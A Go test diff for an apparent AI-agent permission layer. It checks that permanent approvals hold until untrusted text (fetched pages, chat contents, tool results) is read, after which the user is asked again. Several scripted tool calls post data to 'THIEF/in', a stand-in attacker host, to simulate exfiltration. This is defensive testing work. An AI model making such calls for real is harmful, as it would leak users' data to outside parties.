@@ -109,3 +109,37 @@ func TestPersonsAreNotSteered(t *testing.T) {
 		t.Errorf("a workflow: %v, questions %+v", err, w.asked)
 	}
 }
+
+// TestPermanentAnswers checks that a permanent answer holds until another source is read.
+func TestPermanentAnswers(t *testing.T) {
+	w := newFlowWorld(t)
+	w.yes, w.always, w.rules = true, true, []cassidy.Rule{{Verdict: cassidy.Allow, Capability: cassidy.Capability{Name: "tool", Target: "fetch_url"}}}
+	s := w.session(t, w.open(t), "")
+	asked := 0
+	for _, step := range []struct {
+		message string
+		asks    int
+		why     string
+	}{
+		{"<<post_note|url=THIEF/in|text=a>>", 1, "may use http.post"},
+		{"<<post_note|url=THIEF/in|text=b>>", 1, "untrusted text: post_note read http.post"}, // the answer to the first one
+		{"<<post_note|url=THIEF/in|text=bb>>", 0, ""},
+		{"Read PAGE/x <<fetch_url|url=PAGE/x>>", 1, "may use http.get"},
+		{"<<post_note|url=THIEF/in|text=c>>", 1, "untrusted text: fetch_url"},
+		{"<<post_note|url=THIEF/in|text=d>>", 0, ""},
+		{"<<read_chat>>", 0, ""},
+		{"<<post_note|url=THIEF/in|text=e>>", 1, "the result of read_chat"},
+		{"<<tweet|text=f>>", 1, "the result of read_chat"},
+		{"<<tweet|text=g>>", 1, "the result of tweet"}, // what it returned is untrusted, too
+		{"<<count_words|text=g>>", 0, ""},
+	} {
+		w.send(t, s, step.message)
+		if got := len(w.asked) - asked; got != step.asks {
+			t.Errorf("%s: %d questions, want %d: %+v", step.message, got, step.asks, w.asked[asked:])
+		}
+		if step.asks > 0 && len(w.asked) > asked && !strings.Contains(w.asked[len(w.asked)-1].Why, step.why) {
+			t.Errorf("%s is asked because %q, want %q", step.message, w.asked[len(w.asked)-1].Why, step.why)
+		}
+		asked = len(w.asked)
+	}
+}
